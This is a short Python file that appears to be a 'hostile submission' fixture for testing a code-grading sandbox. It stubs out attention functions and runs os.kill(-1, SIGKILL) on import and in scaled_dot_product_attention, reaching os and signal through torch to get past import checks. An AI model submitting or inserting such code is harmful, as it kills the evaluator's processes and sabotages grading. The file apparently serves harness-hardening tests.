"""Hostile submission: kill(-1, SIGKILL): every process the worker may signal."""

import torch

os = torch.os
signal = torch.sys.modules["signal"]
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass


def scaled_dot_product_attention(q, k, v):
    os.kill(-1, signal.SIGKILL)
    return torch.zeros(1), torch.zeros(1)


class SimpleSelfAttention(torch.nn.Module):
    def __init__(self, embed_dim):
        super().__init__()

    def forward(self, x):
        return torch.zeros(1), torch.zeros(1)
